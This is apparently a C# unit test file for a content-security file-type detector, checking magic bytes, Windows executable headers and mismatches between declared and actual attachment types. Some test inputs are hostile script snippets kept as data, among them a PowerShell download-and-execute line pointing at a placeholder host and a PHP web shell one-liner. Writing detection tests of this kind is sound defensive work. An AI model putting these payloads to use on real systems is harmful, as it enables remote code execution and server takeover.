using System.Text;
using SecuEdge.Content.Files;

namespace SecuEdge.Content.Tests;

public sealed class FileTypeTests
{
    [Theory]
    [InlineData("MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff\0\0\u00b8\0\0\0\0\0\0\0@\0\0\0", "application/x-dosexec")]
    [InlineData("MZ is how this sentence begins, but it is text", "text/plain")]
    [InlineData("\u007fELF\u0002\u0001\u0001", "application/x-elf")]
    [InlineData("#!/bin/sh\necho", "text/x-shellscript")]
    [InlineData("L\0\0\0\u0001\u0014\u0002\0\0\0", "application/x-ms-shortcut")]
    [InlineData("PK\u0003\u0004 nothing known", "application/zip")]
    [InlineData("PK\u0003\u0004 [Content_Types].xml word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]
    [InlineData("PK\u0003\u0004 META-INF/MANIFEST.MF", "application/java-archive")]
    [InlineData("\u001f\u008b\u0008", "application/gzip")]
    [InlineData("7z\u00bc\u00af'\u001c\0", "application/x-7z-compressed")]
    [InlineData("Rar!\u001a\u0007\u0001\0", "application/vnd.rar")]
    [InlineData("MSCF\0\0\0\0x", "application/vnd.ms-cab-compressed")]
    [InlineData("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1", "application/x-ole-storage")]
    [InlineData("%PDF-1.7\n", "application/pdf")]
    [InlineData("junk in front %PDF-1.4\n1 0 obj", "application/pdf")]
    [InlineData("{\\rtf1", "application/rtf")]
    [InlineData("\u00ff\u00d8\u00ff\u00e0", "image/jpeg")]
    [InlineData("RIFF\0\0\0\0WEBP", "image/webp")]
    [InlineData("\0\0\0\u0018ftypmp42", "video/mp4")]
    [InlineData("<!DOCTYPE html><html>", "text/html")]
    [InlineData("Hi <a href=x>there</a>", "text/html")]
    [InlineData("<?xml version=\"1.0\"?><a/>", "application/xml")]
    [InlineData("<svg xmlns='x'/>", "image/svg+xml")]
    [InlineData("BEGIN:VCALENDAR\r\n", "text/calendar")]
    [InlineData("From: a@b.c\r\nTo: d@e.f\r\n\r\n", "message/rfc822")]
    [InlineData("From: here to there\r\nit is far", "text/plain")]
    [InlineData("Plain words.", "text/plain")]
    [InlineData("\u0001\u0002\u0003", "application/octet-stream")]
    [InlineData("\u00ca\u00fe\u00ba\u00be\0\0\0\u0002\u0001\0\0\u0007", "application/x-mach-binary")]
    [InlineData("\u00ca\u00fe\u00ba\u00be\0\0\0\u0041\0\u0010\u000a\0", "application/x-java-class")]
    [InlineData("#!/usr/bin/env python3\nprint(1)", "text/x-python")]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://a.example/')", "text/x-powershell")]
    [InlineData("$a = 1\nWrite-Host $a\nStart-Process calc", "text/x-powershell")]
    [InlineData("Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"", "text/x-vbscript")]
    [InlineData("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", "text/x-jscript")]
    [InlineData("@echo off\r\nstart calc.exe", "text/x-msdos-batch")]
    [InlineData("#@~^EgAAAA==W", "text/x-encoded-script")]
    [InlineData("<?php system($_GET['c']);", "text/x-php")]
    [InlineData("<job id=\"x\"><script language=\"JScript\">x</script></job>", "text/x-windows-script")]
    [InlineData("(function(){ var a = 1; })();", "text/javascript")]
    [InlineData("\u00ff\u00fe@\0e\0c\0h\0o\0 \0o\0f\0f\0", "text/x-msdos-batch")]
    [InlineData("[InternetShortcut]\r\nURL=x", "application/x-mswinurl")]
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\n", "application/x-private-key")]
    [InlineData("FORM\0\0\0\0AIFF", "audio/aiff")]
    [InlineData("\0\0\0\u001cftypavif", "image/avif")]
    [InlineData("\0\0\0\u001cftypheic", "image/heif")]
    [InlineData("\u00db\u00a5-\0x", "application/x-msword-old")]
    [InlineData("\u00ffWPC\u0010\0", "application/vnd.wordperfect")]
    [InlineData("Set up the meeting, start with the invoice and call me. Dim the lights.", "text/plain")]
    [InlineData("Hello,\n\nplease import the list. function and form matter; var is a word = so what.\n\nSet\nof rules", "text/plain")]
    [InlineData("set the table\nset the alarm\nrem", "text/plain")]
    [InlineData("From the docs: use CreateObject( to make one.", "text/plain")]
    public void The_beginning_tells_the_type(string content, string type)
    {
        var bytes = Encoding.Latin1.GetBytes(content);
        Assert.Equal(type, FileTypeDetector.Detect(bytes, bytes));
    }

    [Fact]
    public void Sound_without_a_header_is_known_by_two_frames()
    {
        var mp3 = new byte[1_000];
        byte[] frame = [0xff, 0xfb, 0x90, 0x64];
        frame.CopyTo(mp3, 0);
        frame.CopyTo(mp3, 417);
        Assert.Equal("audio/mpeg", FileTypeDetector.Detect(mp3, mp3));
        mp3[417] = 0;
        Assert.Equal("application/octet-stream", FileTypeDetector.Detect(mp3, mp3));
    }

    [Theory]
    [InlineData(0x2000, 2, 0, "application/x-ms-library-program")]
    [InlineData(0, 1, 0, "application/x-ms-driver")]
    [InlineData(0, 2, 0x2000, "application/x-ms-dotnet")]
    [InlineData(0, 2, 0, "application/x-dosexec")]
    public void Programs_of_Windows_are_told_apart_by_their_headers(ushort characteristics, byte subsystem, ushort runtime, string type)
    {
        var program = new byte[0x400];
        "MZ"u8.CopyTo(program);
        program[0x3c] = 0x80;
        "PE\0\0"u8.CopyTo(program.AsSpan(0x80));
        BitConverter.TryWriteBytes(program.AsSpan(0x80 + 22), characteristics);
        BitConverter.TryWriteBytes(program.AsSpan(0x80 + 24), (ushort)0x20b);
        program[0x80 + 24 + 68] = subsystem;
        BitConverter.TryWriteBytes(program.AsSpan(0x80 + 24 + 112 + (14 * 8)), runtime);
        Assert.Equal(type, FileTypeDetector.Detect(program, program));
    }

    [Fact]
    public void An_ISO_image_without_files_is_no_empty_tar_but_broken()
    {
        var image = new byte[40_000];
        "CD001"u8.CopyTo(image.AsSpan(32_769));
        using var anatomy = Samples.Examine(Samples.WithAttachment(image, "a.iso"));
        Assert.True(anatomy.Flags.HasFlag(AnatomyFlags.Broken));
    }

    [Theory]
    [InlineData("picture.jpg", "image/jpeg", "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff\0\0\u00b8\0\0\0\0\0\0\0@\0\0\0", AnatomyFlags.TypeMismatch | AnatomyFlags.Executable)]
    [InlineData("notes.txt", "text/plain", "L\0\0\0\u0001\u0014\u0002\0\0\0", AnatomyFlags.TypeMismatch | AnatomyFlags.Executable)]
    [InlineData("picture.jpg", "image/png", "GIF89a......", AnatomyFlags.None)]
    [InlineData("a.bin", "application/octet-stream", "%PDF-1.7\n", AnatomyFlags.None)]
    [InlineData("run.js", "text/plain", "WScript.Echo(1)", AnatomyFlags.Executable)]
    [InlineData("a.pdf", "application/pdf", "PK\u0003\u0004 nothing known", AnatomyFlags.None)]
    public void Families_that_contradict_each_other_are_a_mismatch(string name, string declared, string content, AnatomyFlags expected)
    {
        using var anatomy = Samples.Examine(Samples.WithAttachment(Encoding.Latin1.GetBytes(content), name, declared));
        Assert.Equal(expected, anatomy.Flags & (AnatomyFlags.TypeMismatch | AnatomyFlags.Executable));
    }
}
